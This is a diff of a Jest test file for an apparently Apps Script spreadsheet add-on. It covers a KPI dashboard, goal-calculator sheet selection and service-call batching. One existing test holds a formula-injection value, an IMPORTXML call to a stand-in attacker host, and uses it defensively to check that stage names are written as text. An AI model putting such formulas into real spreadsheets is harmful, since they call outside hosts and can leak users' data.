@@ -43,7 +43,8 @@ describe('insertKpiDashboardWithSample from the built bundle', () => {
     const { sheet } = run('insertKpiDashboardWithSample');
     expect(sheet.getConditionalFormatRules().length).toBeGreaterThan(0);
     expect(sheet.getCharts()).toHaveLength(3);
-    expect(sheet.getConditionalFormatRules()).toHaveLength(2);
+    // Health (red, green) and the impossible-month flags (amber).
+    expect(sheet.getConditionalFormatRules()).toHaveLength(4);
   });
 
   test('never overwrites an existing sheet: a second insert writes "KPI Dashboard (2)"', () => {
@@ -134,6 +135,51 @@ describe('plan vs actual from the bundle', () => {
     );
   });
 
+  test('"Goal Calculator (2)" is found when the plain name holds something else', () => {
+    // Someone's own sheet already has the name: the goal calculator was written as "(2)".
+    const fake = fakeWithLocale('en_US', { sheetNames: ['Sheet1', 'Goal Calculator'] });
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', examplePlan);
+    runtime.call('saveLastPlan', examplePlan);
+    const name = runtime.call('insertKpiDashboard') as string;
+    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
+    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
+    expect(formulas.some((formula) => formula.includes("'Goal Calculator (2)'!"))).toBe(true);
+    expect(formulas.some((formula) => formula.includes("'Goal Calculator'!"))).toBe(false);
+  });
+
+  test('the goal sheet a person picks is used and remembered for the next dashboard', () => {
+    const fake = fakeWithLocale();
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', examplePlan);
+    runtime.call('buildGoalCalculator', examplePlan);
+    runtime.call('saveLastPlan', examplePlan);
+    const references = (sheetName: string) => {
+      const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(sheetName);
+      const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
+      return ['Goal Calculator', 'Goal Calculator (2)'].filter((goal) =>
+        formulas.some((formula) => formula.includes(`'${goal}'!`)),
+      );
+    };
+    // Unpicked, the plain name wins; picked, "(2)" wins now and next time.
+    expect(references(runtime.call('insertKpiDashboard') as string)).toEqual(['Goal Calculator']);
+    const picked = runtime.call('insertKpiDashboard', { goalSheet: 'Goal Calculator (2)' });
+    expect(references(picked as string)).toEqual(['Goal Calculator (2)']);
+    expect(references(runtime.call('insertKpiDashboard') as string)).toEqual([
+      'Goal Calculator (2)',
+    ]);
+    expect(() => runtime.call('insertKpiDashboard', { goalSheet: 'Plan 2027' })).toThrow(
+      'goalSheet is "Plan 2027"; no sheet has that name in this spreadsheet',
+    );
+    expect(() => runtime.call('insertKpiDashboard', { goalSheet: 'Sheet1' })).toThrow(
+      'goalSheet is "Sheet1"; it does not have the stages of the last goal plan (Visitors, Leads, MQLs, SQLs, Customers): pick the goal calculator sheet of that plan',
+    );
+    // A refused pick is not remembered: the earlier pick still holds.
+    expect(references(runtime.call('insertKpiDashboard') as string)).toEqual([
+      'Goal Calculator (2)',
+    ]);
+  });
+
   test('a hostile stage name reaches the dashboard as text, never as a formula', () => {
     const hostile = '=IMPORTXML("http://evil.example/", "//a")';
     const plan = { ...examplePlan, stages: [...examplePlan.stages.slice(0, 4), { name: hostile }] };
@@ -165,15 +211,16 @@ describe('batching: a constant number of service calls, whatever the number of m
     expect(twelve.document).toBeLessThanOrEqual(25);
   });
 
-  test('empty: two more to read the last plan, three more to check its goal calculator; at most 25', () => {
+  test('empty: two more to read the last plan, five more to find and check its goal calculator; at most 25', () => {
     const sample = callsFor('insertKpiDashboardWithSample', 12).document;
     const empty = callsFor('insertKpiDashboard', 12);
     expect(callsFor('insertKpiDashboard', 36)).toEqual(empty);
     expect(empty.document).toBe(sample + 2);
     const linked = callsFor('insertKpiDashboard', 12, withGoal());
     expect(callsFor('insertKpiDashboard', 36, withGoal())).toEqual(linked);
-    // getSheetByName, getRange and getValues of the stage names; no locale (the plan has a language).
-    expect(linked.document).toBe(empty.document + 3 - 1);
+    // The remembered pick (getDocumentProperties, getProperty), getSheetByName, getRange and
+    // getValues of the stage names; no locale (the plan has a language).
+    expect(linked.document).toBe(empty.document + 5 - 1);
     expect(linked.document).toBeLessThanOrEqual(25);
   });
 });
